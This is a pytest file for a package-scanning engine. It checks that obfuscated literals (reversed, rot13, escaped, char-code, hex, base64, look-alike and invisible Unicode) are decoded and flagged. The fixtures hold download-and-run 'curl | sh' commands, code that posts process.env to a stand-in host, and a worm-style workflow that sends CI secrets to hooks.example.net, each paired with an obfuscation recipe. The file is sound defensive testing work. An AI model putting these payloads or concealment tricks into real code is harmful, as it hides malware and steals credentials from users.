"""Literals a file decodes as it runs are scanned decoded (``analysis/decoded.py``)."""

from __future__ import annotations

import base64
import codecs
from collections.abc import Callable

import pytest

from tests.analysis.builders import npm_tarball, package, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.decoded import DECODERS, HIDDEN_CODE_RULE
from threatfeed.analysis.package import SourceFile

DOWNLOAD_EXEC = (
    "import urllib.request;exec(urllib.request.urlopen('https://x.example.net/a').read())"
)
ROT13 = codecs.encode(DOWNLOAD_EXEC, "rot13")


def _module(engine: Engine, code: str) -> SourceFile:
    found = package(engine, sdist({"tidy_strings/module.py": code})).file("tidy_strings/module.py")
    assert found is not None
    return found


def _rules(source: SourceFile) -> dict[str, str]:
    return {hit.rule: hit.label for hit in source.signatures}


def _escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


@pytest.mark.parametrize(
    ("code", "spelling"),
    [
        (
            f'import builtins\ngetattr(builtins, "cexe"[::-1])("{DOWNLOAD_EXEC[::-1]}"[::-1])\n',
            "a reversed string",
        ),
        (
            f'import codecs\nexec(codecs.decode("{ROT13}", "rot13"))\n',
            "rot13",
        ),
        (f'exec("{_escaped(DOWNLOAD_EXEC)}")\n', "escape sequences"),
        (
            f"exec(bytes([{', '.join(str(ord(c)) for c in DOWNLOAD_EXEC)}]).decode())\n",
            "character codes",
        ),
    ],
)
def test_code_spelled_by_the_file_own_decoder_is_scanned_decoded(
    engine: Engine, code: str, spelling: str
) -> None:
    rules = _rules(_module(engine, code))
    assert rules["python_exec_of_download"].endswith(f"(hidden in {spelling})")
    assert rules[HIDDEN_CODE_RULE] == f"code hidden in {spelling}"


def test_a_hit_of_a_decoded_string_points_at_its_literal(engine: Engine) -> None:
    code = f'import builtins\nx = 1\nrun = "{DOWNLOAD_EXEC[::-1]}"[::-1]\n'
    source = _module(engine, code)
    (hit,) = [h for h in source.signatures if h.rule == "python_exec_of_download"]
    ((offset, length),) = hit.offsets
    assert source.data[offset : offset + length] == f'"{DOWNLOAD_EXEC[::-1]}"'.encode()


def test_javascript_module_names_in_escapes_and_char_codes_are_read(engine: Engine) -> None:
    script = (
        f'const m = require("{_escaped("child_process")}");\n'
        "const cmd = String.fromCharCode("
        + ", ".join(str(ord(c)) for c in "curl -s https://x.example.net/i | sh")
        + ");\nm.exec(cmd);\n"
    )
    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
    assert found is not None
    assert HIDDEN_CODE_RULE in _rules(found)


def test_ordinary_reversals_escapes_and_char_codes_reveal_nothing(engine: Engine) -> None:
    code = (
        "def is_palindrome(word):\n    return word == word[::-1]\n"
        'SUFFIX = "gnp."[::-1]\n'
        f'BANNER = "{_escaped("Hello, world")}"\n'
        "MAGIC = bytes([137, 80, 78, 71, 13, 10, 26, 10])\n"
        "NOTE = codecs.encode('a toy cipher', 'rot13')\n"
    )
    rules = _rules(_module(engine, code))
    marked = {"reversed_literal", "escaped_literal", "char_code_literal", "rot13_literal"}
    assert marked <= set(rules)  # marked, decoded, and nothing found
    assert not {r for r in rules if r not in {*DECODERS, "string_decoder"}}


def test_decoders_read_only_what_looks_like_text() -> None:
    assert list(DECODERS["char_code_literal"](b"x = bytes([1, 2, 3, 200, 255])", 4)) == []
    data = b"name = 'dl\\'row olleh'[::-1]"
    (reversed_,) = DECODERS["reversed_literal"](data, data.index(b"'["))
    assert (reversed_.offset, reversed_.encoding) == (7, "reversed")
    assert reversed_.text == "hello wor'ld"  # the escaped quote read as the language reads it


def test_hex_literals_of_a_file_that_decodes_hex_are_read(engine: Engine) -> None:
    command = "require('child_process').exec('curl -s https://x.example.net/i | sh')"
    script = (
        f"var h = '{command.encode().hex()}';\nnew Function(Buffer.from(h, 'hex').toString())();\n"
    )
    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
    assert found is not None
    labels = _rules(found)
    assert labels["download_pipe_to_shell"].endswith("(hidden in hex)")
    # the same literal in a file that never decodes hex is a checksum, not read
    digest = f"const SHA = '{command.encode().hex()}';\n"
    plain = package(engine, npm_tarball({"index.js": digest})).file("index.js")
    assert plain is not None
    assert "download_pipe_to_shell" not in _rules(plain)


def test_a_long_hex_literal_decoded_in_place_is_read(engine: Engine) -> None:
    """The literal handed to ``Buffer.from(..., 'hex')`` itself, longer than the window
    the marker reads between the call's parentheses."""
    command = "require('child_process').exec('curl -s https://x.example.net/i | sh');" * 4
    script = f"var _ = Buffer.from('{command.encode().hex()}', 'hex').toString(); eval(_);\n"
    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
    assert found is not None
    labels = _rules(found)
    assert labels["download_pipe_to_shell"].endswith("(hidden in hex)")
    assert "js_decode_into_variable_then_run" in labels


def test_numbers_handed_to_a_decoder_of_names_are_read(engine: Engine) -> None:
    """``_c`` turns any numbers it is handed into text: the runs of numbers of the file are
    what it decodes, wherever they are written."""
    command = "curl -fsSL https://x.example.net/b/boot.sh | sh"
    codes = ",".join(str(ord(c)) for c in command)
    code = (
        "import subprocess\n\ndef _c(*n):\n    return ''.join(map(chr, n))\n\n"
        f"_BOOT = _c({codes})\nsubprocess.Popen(_BOOT, shell=True)\n"
    )
    labels = _rules(_module(engine, code))
    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
    # numbers with no decoder of names in the file are data (a table, a test vector)
    table = f"WIDTHS = ({codes})\n"
    assert "download_pipe_to_shell" not in _rules(_module(engine, table))


def test_numbers_a_file_runs_as_bytes_are_read(engine: Engine) -> None:
    command = "import os;os.system('curl -s https://x.example.net/o | sh')"
    codes = ", ".join(str(ord(c)) for c in command)
    code = (
        f"class _Finalizer:\n    _c = [{codes}]\n\n    def __del__(self):\n"
        "        exec(bytes(self._c).decode())\n\n_keep = _Finalizer()\n"
    )
    labels = _rules(_module(engine, code))
    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")


@pytest.mark.parametrize("spell", [str, hex], ids=["short runs joined", "hex numbers"])
def test_numbers_split_into_short_runs_or_written_in_hex_are_read(
    engine: Engine, spell: Callable[[int], str]
) -> None:
    command = [ord(c) for c in "curl -fsSL https://x.example.net/b/boot.sh | sh"]
    runs = [command[i : i + 5] for i in range(0, len(command), 5)]
    names = [f"_p{i}" for i in range(len(runs))]
    code = (
        "import os\n\n"
        + "".join(f"{n} = [{', '.join(map(spell, r))}]\n" for n, r in zip(names, runs, strict=True))
        + f"os.system(''.join(map(chr, {' + '.join(names)})))\n"
    )
    labels = _rules(_module(engine, code))
    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")


def test_a_decoder_called_on_short_runs_is_read_as_the_strings_it_returns(
    engine: Engine,
) -> None:
    """Names and a command each spelled by a call of the file's decoder, the command
    joined from pieces: the file as it reads when it runs."""

    def codes(text: str) -> str:
        return f"_L({', '.join(str(ord(c)) for c in text)})"

    code = (
        "_L = lambda *c: ''.join(map(chr, c))\n\n"
        f"_s = __import__({codes('subprocess')})\n"
        f"_cmd = {codes('curl')} + ' -fsS ' + {codes('https://')} + 'x.example.net/j.sh | sh'\n"
        f"getattr(_s, {codes('Popen')})(_cmd, shell=True)\n"
    )
    labels = _rules(_module(engine, code))
    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")


@pytest.mark.parametrize(
    "code",
    [
        "const https = require('https');\nfunction report(env) {\n"
        "  https.request({ hostname: 'x.example.net', method: 'POST' })"
        ".end(JSON.stringify(env));\n}\n"
        "function parse(schema, env = process.env) {\n  report(env);\n  return schema;\n}\n",
        "const vars = process.env;\nconsole.log(Object.keys(vars).length);\n"
        "module.exports = () => Buffer.from(JSON.stringify(vars)).toString('base64');\n",
    ],
    ids=["a parameter's default", "a constant"],
)
def test_a_name_bound_to_the_environment_reads_as_the_environment(
    engine: Engine, code: str
) -> None:
    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
    assert found is not None
    labels = _rules(found)
    assert labels["environment_dump"].endswith("(through a name bound to it)")
    assert HIDDEN_CODE_RULE not in labels  # nothing is concealed


def test_names_bound_to_the_environment_and_read_in_part_are_no_dump(engine: Engine) -> None:
    code = (
        "const { spawn } = require('child_process');\nconst env = process.env;\n"
        "spawn('git', ['status'], { env });\nconsole.log(env.HOME, env['PATH']);\n"
        "module.exports = JSON.stringify(env.NODE_ENV);\n"
    )
    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
    assert found is not None
    assert "environment_dump" not in _rules(found)


def test_a_file_read_as_it_runs_hides_no_literal_decoded_after_it(engine: Engine) -> None:
    """The whole-file readings are located at their first rewrite only: spanning the
    rest of the file, they hid every escaped literal after them."""
    command = _escaped("curl -s https://x.example.net/i | sh")
    code = (
        "const e = process.env;\nconsole.log(e);\n"
        f"require('child_process').execSync(\"{command}\");\n"
    )
    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
    assert found is not None
    assert _rules(found)["download_pipe_to_shell"].endswith("(hidden in escape sequences)")


@pytest.mark.parametrize(
    "binding",
    ["const { env } = process;", "const env = { ...process.env };"],
    ids=["destructured", "spread"],
)
def test_the_environment_destructured_or_spread_is_bound_too(engine: Engine, binding: str) -> None:
    code = f"{binding}\nfetch(URL, {{ method: 'POST', body: JSON.stringify(env) }});\n"
    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
    assert found is not None
    assert "environment_dump" in _rules(found)


#: A workflow a worm writes into every repository it reaches, kept in base64.
WORKFLOW = (
    "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n"
    '      - run: curl -d "$S" https://hooks.example.net/c\n'
    "        env:\n          S: ${{ toJSON(secrets) }}\n"
)


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        (WORKFLOW, "ci_secrets_dumped_by_workflow"),
        ("curl -fsSL https://x.example.net/boot.sh | sh", "download_pipe_to_shell"),
    ],
    ids=["a long literal", "a short one"],
)
def test_base64_literals_of_a_file_that_decodes_base64_are_read(
    engine: Engine, payload: str, rule: str
) -> None:
    encoded = base64.b64encode(payload.encode()).decode()
    script = (
        "const fs = require('fs');\n"
        f"const text = Buffer.from('{encoded}', 'base64').toString();\n"
        "fs.writeFileSync('.github/workflows/ci.yml', text);\n"
    )
    found = package(engine, npm_tarball({"setup.js": script})).file("setup.js")
    assert found is not None
    assert _rules(found)[rule].endswith("(hidden in base64)")


def test_base64_pictures_and_binary_blobs_reveal_nothing(engine: Engine) -> None:
    picture = base64.b64encode(bytes(range(256)) * 4).decode()
    script = f"const img = atob('{picture}');\nmodule.exports = img;\n"
    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
    assert found is not None
    assert not [hit for hit in found.signatures if "hidden in" in hit.label]


def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
    engine: Engine,
) -> None:
    fullwidth = "".join(chr(0xFF00 + ord(c) - 0x20) for c in "exec")
    code = f"import base64\n{fullwidth}(base64.b64decode('cHJpbnQoMSk='))\n"
    rules = _rules(_module(engine, code))
    assert rules["python_decode_then_exec"].endswith("(hidden in look-alike letters)")


def test_decoys_in_front_do_not_push_the_payload_out_of_reach(engine: Engine) -> None:
    """A signature reports its first 20 places; the decoder reads on past them."""
    decoys = "".join(f'w{i} = "olleh{i}"[::-1]\n' for i in range(30))
    code = decoys + f'run = "{DOWNLOAD_EXEC[::-1]}"[::-1]\n'
    assert "python_exec_of_download" in _rules(_module(engine, code))


def _selectors(text: str) -> str:
    """GlassWorm's spelling: a variation selector for each byte."""
    return "".join(chr(0xFE00 + b if b < 16 else 0xE0100 + b - 16) for b in text.encode())


def _private_use(text: str) -> str:
    return "".join(chr(0xE000 + b) for b in text.encode())


@pytest.mark.parametrize("spell", [_selectors, _private_use], ids=["selectors", "private use"])
def test_code_hidden_in_invisible_characters_is_read_and_flags(
    engine: Engine, spell: Callable[[str], str]
) -> None:
    payload = "require('child_process').exec('curl -s https://x.example.net/i | sh')"
    code = (
        "const s = [...'" + spell(payload) + "']"
        ".map((c) => c.codePointAt(0)).map(decodeByte);\n"
        "eval(Buffer.from(s).toString());\n"
    )
    archive = npm_tarball({"index.js": code})
    source = package(engine, archive).file("index.js")
    assert source is not None
    rules = _rules(source)
    assert rules["invisible_characters"].startswith("hides text in a run of invisible")
    assert rules["download_pipe_to_shell"].endswith("(hidden in invisible characters)")
    hit = next(hit for hit in source.signatures if hit.rule == "download_pipe_to_shell")
    start, length = hit.offsets[0]
    assert source.data[start : start + length].decode() == spell(payload)
    assert engine.analyze(archive).flagged


def test_emoji_selectors_and_icon_glyphs_are_no_hidden_text(engine: Engine) -> None:
    code = (
        "const STATUS = {ok: '\u2705\ufe0f', warn: '\u26a0\ufe0f'};\n"
        "const ICONS = {home: '\ue88a', menu: '\ue5d2', search: '\ue8b6'};\n"
        f"const SHORT = '{_private_use('fifteen chars..')}';\n"
    )
    source = package(engine, npm_tarball({"index.js": code})).file("index.js")
    assert source is not None
    assert "invisible_characters" not in _rules(source)
